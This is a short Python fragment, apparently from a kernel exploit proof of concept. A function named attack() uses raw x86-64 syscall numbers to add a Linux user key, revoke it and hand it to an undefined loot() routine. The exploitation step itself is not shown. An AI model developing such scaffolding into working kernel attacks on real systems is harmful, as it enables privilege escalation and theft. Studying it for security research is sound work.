ADD_KEY, KEYCTL, REVOKE, USER_KEYRING = 248, 250, 3, -4  # x86-64


def attack():
    key = kernel(ADD_KEY, b"user", b"attack", b"found", 5, USER_KEYRING)
    kernel(KEYCTL, REVOKE, key, 0, 0, 0)
    loot(key)
